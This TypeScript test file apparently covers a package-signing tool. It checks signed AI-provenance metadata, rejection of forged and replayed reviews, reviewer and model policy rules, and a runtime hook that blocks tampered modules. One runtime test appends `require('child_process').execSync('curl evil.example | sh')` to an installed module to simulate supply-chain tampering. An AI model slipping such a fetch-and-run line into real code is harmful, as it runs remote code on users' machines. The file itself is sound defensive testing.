/**
 * The lifecycle with no unsigned gap: AI-generation provenance signed by the publisher, human
 * review signed by reviewers, consumer policy over both at resolution (`add`) and verification
 * (`verify`), and a runtime hook that refuses modules whose bytes differ from what was verified.
 */

import { execFile } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fromBase64, toBase64, utf8, type Bundle } from "../../src/core/index.js";
import { enrolPublisher, publishDir, writePackage, type PublisherSetup } from "../helpers/actors.js";
import { cleanEnv, runCli, runJson } from "../helpers/cli.js";
import { npm, pnpm, writeConsumer } from "../helpers/npm.js";
import { ROOT } from "../helpers/paths.js";
import { startRegistry, type TestRegistry } from "../helpers/registry.js";

let team: TestRegistry;
let work: string;
let alice: PublisherSetup;
let bob: { keyFile: string; keyid: string }; // the listed reviewer
let carol: { keyFile: string; keyid: string }; // a reviewer nobody listed
let env: Record<string, string>;

const AI = ["--ai", "generated", "--ai-model", "anthropic/claude-opus-4@20260501", "--ai-tool", "anthropic/claude-code@2.1.0"];

const policyPins = (rules: unknown[]) => ({
  version: 1,
  registries: { team: { url: team.url, fingerprints: [team.key.keyid] } },
  namespaces: { "@acme": "team", "@*": "reject", "*": "allow" },
  policy: { rules },
});

interface Report {
  ok: boolean;
  receipt?: string;
  packages: { name: string; version: string; status: string; failure?: { layer: string; code: string; rule?: string; message: string } }[];
}

async function verifyIn(dir: string) {
  const result = await runCli(["verify", "--json"], { cwd: dir, env });
  return { code: result.code, report: JSON.parse(result.stdout) as Report };
}

async function reviewer(file: string) {
  const key = await runJson<{ keyid: string }>(["keygen", "--out", file]);
  return { keyFile: file, keyid: key.keyid };
}

function node(args: string[], cwd: string): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile(process.execPath, args, { cwd, env: cleanEnv(env), timeout: 60_000 }, (error, stdout, stderr) => resolve({ code: error ? (typeof error.code === "number" ? error.code : 99) : 0, stdout, stderr }));
  });
}
const HOOK = join(ROOT, "dist", "hook.mjs");

beforeAll(async () => {
  team = await startRegistry({ name: "acme-team" });
  work = mkdtempSync(join(tmpdir(), "countersign-governance-"));
  env = { XDG_CONFIG_HOME: join(work, "config") }; // the receipt key lives here
  alice = await enrolPublisher(team, "@acme", join(work, "alice.json"));
  bob = await reviewer(join(work, "bob.json"));
  carol = await reviewer(join(work, "carol.json"));
  const pkg = (name: string, version: string, marker: string, extra = {}) => writePackage(join(work, "pkgs", `${name.replace("/", "-")}-${version}`), name, version, marker, extra);
  await publishDir(team, alice, pkg("@acme/ai-lib", "1.0.0", "ai one"), AI);
  await publishDir(team, alice, pkg("@acme/ai-lib", "1.1.0", "ai one point one"), AI);
  await publishDir(team, alice, pkg("@acme/human-lib", "1.0.0", "written by hand"), ["--ai", "none"]);
  await publishDir(team, alice, pkg("@acme/other-model", "1.0.0", "other model"), ["--ai", "generated", "--ai-model", "acme-labs/unvetted-7b@1"]);
  const esm = pkg("@acme/esm-lib", "1.0.0", "esm", { type: "module" });
  writeFileSync(join(esm, "index.js"), 'export default "esm lib";\n');
  await publishDir(team, alice, esm);
});

afterAll(async () => {
  await team?.stop();
});

describe("AI-generation provenance is signed, shown, and cannot be changed by the registry", () => {
  it("inspect shows the signed AI attribute and per-file digests", async () => {
    const shown = await runCli(["inspect", "@acme/ai-lib@1.0.0", "--registry", team.url, "--fingerprint", team.key.keyid, "--files"], { env });
    expect(shown.code, shown.stderr).toBe(0);
    expect(shown.stdout).toContain("AI          generated");
    expect(shown.stdout).toContain("claude-opus-4 20260501 (anthropic)");
    expect(shown.stdout).toContain("claude-code 2.1.0 (anthropic)");
    expect(shown.stdout).toContain("files with signed digests");
    expect(shown.stdout).toMatch(/[0-9a-f]{16} {2}index\.js/);
    const packument = (await (await fetch(`${team.url}/@acme%2fai-lib`)).json()) as { versions: Record<string, { countersign: { ai: { contribution: string } } }> };
    expect(packument.versions["1.0.0"]!.countersign.ai.contribution).toBe("generated");
  });

  it.each([
    ["edited (generated → none)", (s: Record<string, any>) => (s.predicate.attributes.ai.contribution = "none")],
    ["stripped", (s: Record<string, any>) => delete s.predicate.attributes.ai],
  ])("an AI attribute %s at the registry fails verification", async (_label, edit) => {
    const db = await team.mf.getD1Database("DB");
    const row = (await db.prepare("SELECT bundle FROM versions WHERE name = '@acme/ai-lib' AND version = '1.1.0'").first<{ bundle: string }>())!;
    const bundle = JSON.parse(row.bundle) as Bundle;
    const statement = JSON.parse(new TextDecoder().decode(fromBase64(bundle.publisher.payload)));
    edit(statement);
    const tampered = { ...bundle, publisher: { ...bundle.publisher, payload: toBase64(utf8(JSON.stringify(statement))) } };
    await db.prepare("UPDATE versions SET bundle = ? WHERE name = '@acme/ai-lib' AND version = '1.1.0'").bind(JSON.stringify(tampered)).run();
    try {
      const out = await runCli(["inspect", "@acme/ai-lib@1.1.0", "--registry", team.url, "--fingerprint", team.key.keyid], { env });
      expect(out.code).toBe(1);
      expect(out.stdout).toMatch(/REJECTED: publisher layer: publisher signature .* does not verify/);
    } finally {
      await db.prepare("UPDATE versions SET bundle = ? WHERE name = '@acme/ai-lib' AND version = '1.1.0'").bind(row.bundle).run();
    }
  });
});

describe("policy: AI-generated packages need a review signed by a listed reviewer", () => {
  let dir: string;
  const rules = () => [{ rule: "require-review", namespaces: ["@acme"], reviewers: [bob.keyid] }];

  beforeAll(async () => {
    dir = writeConsumer(join(work, "consumer-review"), { registry: team.url, resolved: false, dependencies: { "@acme/ai-lib": "1.0.0", "@acme/human-lib": "1.0.0" }, pins: policyPins(rules()) });
    const install = await npm(["install"], dir);
    expect(install.code, install.stderr).toBe(0);
  });

  it("rejects the unreviewed AI-generated package, naming the rule; the human-written one passes", async () => {
    const { code, report } = await verifyIn(dir);
    expect(code).toBe(1);
    const byName = Object.fromEntries(report.packages.map((p) => [p.name, p]));
    expect(byName["@acme/ai-lib"]).toMatchObject({ status: "failed", failure: { layer: "policy", code: "policy_rejected", rule: "require-review" } });
    expect(byName["@acme/ai-lib"]!.failure!.message).toContain('AI contribution "generated" needs 1 approved review(s) by a listed reviewer, has 0');
    expect(byName["@acme/human-lib"]!.status).toBe("verified");
    expect(report.receipt).toBeUndefined();
  });

  it("a review by an unlisted key, a replayed review and a forged one do not count", async () => {
    const carolReview = await runCli(["review", "@acme/ai-lib@1.0.0", "--key", carol.keyFile, "--registry", team.url, "--fingerprint", team.key.keyid], { env: { ...env, COUNTERSIGN_TOKEN: alice.token } });
    expect(carolReview.code, carolReview.stderr).toBe(0);
    // Bob's review of 1.1.0, replayed onto 1.0.0 by a compromised registry (the API itself refuses it):
    const replay = join(work, "bob-1.1.0.json");
    expect((await runCli(["review", "@acme/ai-lib@1.1.0", "--key", bob.keyFile, "--registry", team.url, "--fingerprint", team.key.keyid, "--out", replay], { env })).code).toBe(0);
    const refused = await fetch(`${team.url}/-/countersign/v1/packages/@acme%2fai-lib/1.0.0/reviews`, { method: "POST", headers: { authorization: `Bearer ${alice.token}`, "content-type": "application/json" }, body: readFileSync(replay, "utf8") });
    expect(refused.status).toBe(400);
    // A forged review: Bob's keyid and key, a signature that is not his.
    const forged = JSON.parse(readFileSync(replay, "utf8")) as { payload: string; signatures: { sig: string }[] };
    const statement = JSON.parse(new TextDecoder().decode(fromBase64(forged.payload)));
    const db = await team.mf.getD1Database("DB");
    const genuine = (await db.prepare("SELECT sha256, sha512 FROM versions WHERE name = '@acme/ai-lib' AND version = '1.0.0'").first<{ sha256: string; sha512: string }>())!;
    statement.subject[0].digest = { sha256: genuine.sha256, sha512: genuine.sha512 };
    statement.predicate.version = "1.0.0";
    statement.subject[0].name = "pkg:npm/%40acme/ai-lib@1.0.0";
    const forgedEnvelope = { ...forged, payload: toBase64(utf8(JSON.stringify(statement))) };
    for (const [keyid, envelope] of [
      [`${bob.keyid}`, readFileSync(replay, "utf8")],
      [`${bob.keyid}x`, JSON.stringify(forgedEnvelope)],
    ]) {
      await db.prepare("INSERT INTO reviews (name, version, reviewer_keyid, verdict, envelope, created_at) VALUES ('@acme/ai-lib', '1.0.0', ?, 'approved', ?, '2026-11-24T00:00:00.000Z')").bind(keyid, envelope).run();
    }
    const { code, report } = await verifyIn(dir);
    expect(code).toBe(1);
    const message = report.packages.find((p) => p.name === "@acme/ai-lib")!.failure!.message;
    expect(message).toContain(`review by ${carol.keyid}, who is not a listed reviewer`);
    expect(message).toContain(`review by ${bob.keyid} is for @acme/ai-lib@1.1.0, not @acme/ai-lib@1.0.0`);
    expect(message).toContain(`signature by ${bob.keyid} does not verify`);
    await db.prepare("DELETE FROM reviews WHERE name = '@acme/ai-lib' AND version = '1.0.0' AND reviewer_keyid IN (?, ?)").bind(bob.keyid, `${bob.keyid}x`).run();
  });

  it("is accepted once a listed reviewer signs, and verify writes the receipt", async () => {
    const signed = await runCli(["review", "@acme/ai-lib@1.0.0", "--key", bob.keyFile, "--registry", team.url, "--fingerprint", team.key.keyid, "--note", "read every line"], { env: { ...env, COUNTERSIGN_TOKEN: alice.token } });
    expect(signed.code, signed.stderr).toBe(0);
    const { code, report } = await verifyIn(dir);
    expect(report.packages.every((p) => p.status === "verified"), JSON.stringify(report.packages)).toBe(true);
    expect(code).toBe(0);
    expect(report.receipt).toBe(join(dir, "countersign-receipt.json"));
  });

  it("rejects a model no rule allows", async () => {
    const d = writeConsumer(join(work, "consumer-models"), { registry: team.url, resolved: false, dependencies: { "@acme/other-model": "1.0.0" }, pins: policyPins([{ rule: "allowed-models", models: ["anthropic/claude-*"] }]) });
    expect((await npm(["install"], d)).code).toBe(0);
    const { report } = await verifyIn(d);
    expect(report.packages[0]!.failure).toMatchObject({ layer: "policy", rule: "allowed-models" });
    expect(report.packages[0]!.failure!.message).toContain("acme-labs/unvetted-7b@1");
  });

  it("refuses an unknown rule name instead of ignoring it", async () => {
    const d = writeConsumer(join(work, "consumer-typo"), { registry: team.url, resolved: false, dependencies: {}, pins: policyPins([{ rule: "require-reveiw", reviewers: [bob.keyid] }]) });
    writeFileSync(join(d, "package-lock.json"), JSON.stringify({ lockfileVersion: 3, packages: { "": {} } }));
    const out = await runCli(["verify"], { cwd: d, env });
    expect(out.code).toBe(2);
    expect(out.stderr).toContain('unknown rule "require-reveiw"');
  });
});

describe("governed resolution: add picks the newest version that passes, and says why", () => {
  it("skips 1.1.0 (unreviewed AI) and writes 1.0.0 with its exact integrity", async () => {
    const dir = writeConsumer(join(work, "consumer-add"), { registry: team.url, resolved: false, dependencies: {}, pins: policyPins([{ rule: "require-review", reviewers: [bob.keyid] }]) });
    const out = await runCli(["add", "@acme/ai-lib@^1.0.0"], { cwd: dir, env });
    expect(out.code, out.stderr).toBe(0);
    expect(out.stdout).toContain("added @acme/ai-lib@1.0.0");
    expect(out.stdout).toMatch(/skipped @acme\/ai-lib@1\.1\.0: policy: rule 0 \(require-review\): AI contribution "generated" needs 1 approved review/);
    expect(JSON.parse(readFileSync(join(dir, "package.json"), "utf8")).dependencies).toEqual({ "@acme/ai-lib": "1.0.0" });
    const lock = JSON.parse(readFileSync(join(dir, "package-lock.json"), "utf8")) as { packages: Record<string, { version: string; integrity: string }> };
    const bundle = (await (await fetch(`${team.url}/-/countersign/v1/packages/@acme%2fai-lib/1.0.0`)).json()) as Bundle;
    const subject = JSON.parse(new TextDecoder().decode(fromBase64(bundle.countersignature.payload))).subject[0].digest.sha512 as string;
    expect(lock.packages["node_modules/@acme/ai-lib"]).toMatchObject({ version: "1.0.0", integrity: `sha512-${Buffer.from(subject, "hex").toString("base64")}` });
  });

  it("fails, changing nothing, when no version passes", async () => {
    const dir = writeConsumer(join(work, "consumer-add-none"), { registry: team.url, resolved: false, dependencies: {}, pins: policyPins([{ rule: "allowed-models", models: ["openai/*"] }]) });
    const before = readFileSync(join(dir, "package.json"), "utf8");
    const out = await runCli(["add", "@acme/ai-lib"], { cwd: dir, env });
    expect(out.code).toBe(1);
    expect(out.stderr).toContain("no version of @acme/ai-lib@* passes verification and policy");
    expect(readFileSync(join(dir, "package.json"), "utf8")).toBe(before);
  });
});

describe("runtime: modules load only as verified", () => {
  let dir: string;
  beforeAll(async () => {
    dir = writeConsumer(join(work, "consumer-runtime"), { registry: team.url, resolved: false, dependencies: { "@acme/human-lib": "1.0.0", "@acme/esm-lib": "1.0.0" }, pins: policyPins([]) });
    expect((await npm(["install"], dir)).code).toBe(0);
    writeFileSync(join(dir, "app.mjs"), 'import esm from "@acme/esm-lib";\nimport { createRequire } from "node:module";\nconst require = createRequire(import.meta.url);\nconsole.log(require("@acme/human-lib"), esm);\n');
    const { code } = await verifyIn(dir);
    expect(code).toBe(0);
  });

  it("an untouched install runs under the hook", async () => {
    const run = await node(["--import", HOOK, "app.mjs"], dir);
    expect(run.stderr).toBe("");
    expect(run.stdout.trim()).toBe("written by hand esm lib");
  });

  it.each([
    ["a CommonJS file", "node_modules/@acme/human-lib/index.js", "@acme/human-lib@1.0.0"],
    ["an ES module", "node_modules/@acme/esm-lib/index.js", "@acme/esm-lib@1.0.0"],
  ])("a tampered %s is refused at import, naming the package, the file and the reason", async (_label, file, pkg) => {
    const path = join(dir, file);
    const original = readFileSync(path, "utf8");
    writeFileSync(path, `${original}\nrequire("child_process").execSync("curl evil.example | sh");\n`);
    try {
      const run = await node(["--import", HOOK, "app.mjs"], dir);
      expect(run.code).not.toBe(0);
      expect(run.stderr).toContain(`countersign: refusing to load index.js of ${pkg}: its bytes differ from the signed digest (expected sha256:`);
    } finally {
      writeFileSync(path, original);
    }
  });

  it("works with pnpm's node_modules layout too", async () => {
    const pdir = writeConsumer(join(work, "consumer-runtime-pnpm"), { registry: team.url, resolved: false, dependencies: { "@acme/human-lib": "1.0.0" }, pins: policyPins([]) });
    const install = await pnpm(["install"], pdir);
    expect(install.code, install.stdout + install.stderr).toBe(0);
    expect((await verifyIn(pdir)).code).toBe(0);
    expect((await node(["--import", HOOK, "-e", 'console.log(require("@acme/human-lib"))'], pdir)).stdout.trim()).toBe("written by hand");
    const { realpathSync } = await import("node:fs");
    const file = realpathSync(join(pdir, "node_modules", "@acme", "human-lib", "index.js"));
    expect(file).toContain(`${join("node_modules", ".pnpm")}`);
    writeFileSync(file, "module.exports = 'swapped';\n");
    const run = await node(["--import", HOOK, "-e", 'console.log(require("@acme/human-lib"))'], pdir);
    expect(run.stderr).toContain("refusing to load index.js of @acme/human-lib@1.0.0: its bytes differ from the signed digest");
  });

  it("refuses pinned modules when the receipt is missing or made for another lockfile, and leaves others alone", async () => {
    const receipt = join(dir, "countersign-receipt.json");
    const saved = readFileSync(receipt, "utf8");
    rmSync(receipt);
    let run = await node(["--import", HOOK, "-e", 'require("@acme/human-lib")'], dir);
    expect(run.stderr).toContain("refusing to load index.js of @acme/human-lib: no verification receipt");
    writeFileSync(receipt, saved);
    const lock = join(dir, "package-lock.json");
    const lockText = readFileSync(lock, "utf8");
    writeFileSync(lock, lockText.replace('"name": "consumer"', '"name": "consumer-changed"'));
    run = await node(["--import", HOOK, "-e", 'require("@acme/human-lib")'], dir);
    expect(run.stderr).toContain("the receipt is for another lockfile");
    writeFileSync(lock, lockText);
    // A module outside any pinned namespace loads unchanged even without a usable receipt.
    writeFileSync(join(dir, "node_modules", "local-helper.js"), "module.exports = 'unpinned';\n");
    rmSync(receipt);
    run = await node(["--import", HOOK, "-e", 'console.log(require("./node_modules/local-helper.js"))'], dir);
    expect(run.stdout.trim()).toBe("unpinned");
    writeFileSync(receipt, saved);
  });
});
